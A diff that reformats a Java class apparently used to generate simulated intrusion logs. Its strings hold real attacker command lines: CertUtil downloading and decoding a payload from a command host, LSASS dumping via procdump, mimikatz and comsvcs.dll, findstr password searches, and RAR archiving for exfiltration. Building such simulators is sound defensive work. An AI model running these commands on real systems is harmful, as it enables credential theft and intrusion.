@@ -48,7 +48,9 @@ final class Tradecraft {
     Tradecraft(World world, Random random) {
         Names names = world.names;
         String[] dynamic = {
-            "dyn-" + names.word(random) + ".net", names.word(random) + "-ddns.org", names.word(random) + ".hopto.example"
+            "dyn-" + names.word(random) + ".net",
+            names.word(random) + "-ddns.org",
+            names.word(random) + ".hopto.example"
         };
         lureDomain = Names.pick(random, new String[] {"internal-", "secure-", "encrypted-", "mail-"})
                 + names.word(random)
@@ -60,9 +62,9 @@ final class Tradecraft {
         for (int i = 0; i < 3; i++) {
             nodes.add(world.vpnNodes.get(world.vpnNodes.size() / 2 + random.nextInt(world.vpnNodes.size() / 2)));
         }
-        folder = Names.pick(
-                random,
-                new String[] {"C:\\ProgramData\\", "C:\\Windows\\Temp\\", "C:\\PerfLogs\\", "C:\\Users\\Public\\", "C:\\Intel\\"});
+        folder = Names.pick(random, new String[] {
+            "C:\\ProgramData\\", "C:\\Windows\\Temp\\", "C:\\PerfLogs\\", "C:\\Users\\Public\\", "C:\\Intel\\"
+        });
         renamed = names.word(random) + ".exe";
         packer = Names.pick(random, new String[] {"r.exe", "rar.exe", names.word(random) + ".exe"});
         dump = Dump.values()[random.nextInt(4)];
@@ -101,14 +103,25 @@ final class Tradecraft {
         String account = log.org.name + "\\" + user;
         log.windows.fileWritten(at, on, account, "C:\\Windows\\explorer.exe", folder + renamed, why);
         log.windows.process(
-                at + 30_000, on, account, folder + renamed, "CertUtil.exe",
-                folder + renamed + " -urlcache -split -f http://" + commandHost + "/a.txt " + folder + "a.dat", CMD, why);
+                at + 30_000,
+                on,
+                account,
+                folder + renamed,
+                "CertUtil.exe",
+                folder + renamed + " -urlcache -split -f http://" + commandHost + "/a.txt " + folder + "a.dat",
+                CMD,
+                why);
         log.lookup(at + 30_500, on, commandHost, commandAddress, why);
-        log.connection(
-                at + 31_000, on.ip(), commandAddress, 80, "http", 4000, 1500, 900_000, Flow.Ended.SF, true, why);
+        log.connection(at + 31_000, on.ip(), commandAddress, 80, "http", 4000, 1500, 900_000, Flow.Ended.SF, true, why);
         log.windows.process(
-                at + 60_000, on, account, folder + renamed, "CertUtil.exe",
-                folder + renamed + " -decode " + folder + "a.dat " + folder + "t.zip", CMD, why);
+                at + 60_000,
+                on,
+                account,
+                folder + renamed,
+                "CertUtil.exe",
+                folder + renamed + " -decode " + folder + "a.dat " + folder + "t.zip",
+                CMD,
+                why);
     }
 
     /// Passwords and hashes taken from a machine's memory.
@@ -118,27 +131,52 @@ final class Tradecraft {
             case PROCDUMP -> {
                 String tool = folder + "procdump64.exe";
                 log.windows.process(
-                        at, on, account, tool, "procdump", tool + " -accepteula -ma lsass.exe " + folder + "l.dmp", CMD, why);
+                        at,
+                        on,
+                        account,
+                        tool,
+                        "procdump",
+                        tool + " -accepteula -ma lsass.exe " + folder + "l.dmp",
+                        CMD,
+                        why);
                 log.windows.accessed(at + 300, on, account, tool, LSASS, why);
                 log.windows.fileWritten(at + 900, on, account, tool, folder + "l.dmp", why);
             }
             case MIMIKATZ -> {
                 String tool = folder + "m64.exe";
                 log.windows.process(
-                        at, on, account, tool, "mimikatz.exe",
-                        tool + " privilege::debug sekurlsa::logonpasswords exit", CMD, why);
+                        at,
+                        on,
+                        account,
+                        tool,
+                        "mimikatz.exe",
+                        tool + " privilege::debug sekurlsa::logonpasswords exit",
+                        CMD,
+                        why);
                 log.windows.accessed(at + 300, on, account, tool, LSASS, why);
             }
             case COMSVCS -> {
                 String tool = "C:\\Windows\\System32\\rundll32.exe";
                 log.windows.process(
-                        at, on, account, tool, "RUNDLL32.EXE",
-                        "rundll32.exe C:\\Windows\\System32\\comsvcs.dll MiniDump 640 " + folder + "l.dmp full", CMD, why);
+                        at,
+                        on,
+                        account,
+                        tool,
+                        "RUNDLL32.EXE",
+                        "rundll32.exe C:\\Windows\\System32\\comsvcs.dll MiniDump 640 " + folder + "l.dmp full",
+                        CMD,
+                        why);
                 log.windows.accessed(at + 300, on, account, tool, LSASS, why);
             }
-            case NONE -> log.windows.process(
-                    at, on, account, "C:\\Windows\\System32\\findstr.exe",
-                    "findstr /si password *.xml *.ini *.config", CMD, why);
+            case NONE ->
+                log.windows.process(
+                        at,
+                        on,
+                        account,
+                        "C:\\Windows\\System32\\findstr.exe",
+                        "findstr /si password *.xml *.ini *.config",
+                        CMD,
+                        why);
         }
     }
 
@@ -147,7 +185,8 @@ final class Tradecraft {
         String account = log.org.name + "\\" + user;
         String id = Integer.toHexString(renamed.hashCode());
         String path = switch (ownTool) {
-            case "ScreenConnect" -> "C:\\Program Files (x86)\\ScreenConnect Client (" + id + ")\\ScreenConnect.ClientService.exe";
+            case "ScreenConnect" ->
+                "C:\\Program Files (x86)\\ScreenConnect Client (" + id + ")\\ScreenConnect.ClientService.exe";
             case "Splashtop" -> "C:\\Program Files (x86)\\Splashtop\\Splashtop Remote\\Server\\SRService.exe";
             default -> "C:\\ProgramData\\AnyDesk\\AnyDesk.exe";
         };
@@ -157,7 +196,8 @@ final class Tradecraft {
             default -> "AnyDesk Service";
         };
         log.windows.service(at, on, account, service, path, why);
-        log.windows.process(at + 2000, on, "NT AUTHORITY\\SYSTEM", path, path, "C:\\Windows\\System32\\services.exe", why);
+        log.windows.process(
+                at + 2000, on, "NT AUTHORITY\\SYSTEM", path, path, "C:\\Windows\\System32\\services.exe", why);
         if (!ownTool.equals("AnyDesk")) {
             log.windows.support(at + 600_000, on, ownTool, "admin" + id + "@" + commandHost, "Connected", why);
         }
@@ -172,8 +212,13 @@ final class Tradecraft {
         String archive = place + Integer.toHexString(client.hashCode());
         String tool = folder + packer;
         log.windows.process(
-                at, on, account, tool, "Rar.exe",
-                tool + " a -v200m -hp" + Integer.toHexString(archive.hashCode()) + " " + archive + ".rar D:\\projects", CMD,
+                at,
+                on,
+                account,
+                tool,
+                "Rar.exe",
+                tool + " a -v200m -hp" + Integer.toHexString(archive.hashCode()) + " " + archive + ".rar D:\\projects",
+                CMD,
                 why);
         for (int i = 1; i <= parts; i++) {
             log.windows.fileWritten(at + i * 60_000L, on, account, tool, archive + ".part" + i + ".rar", why);
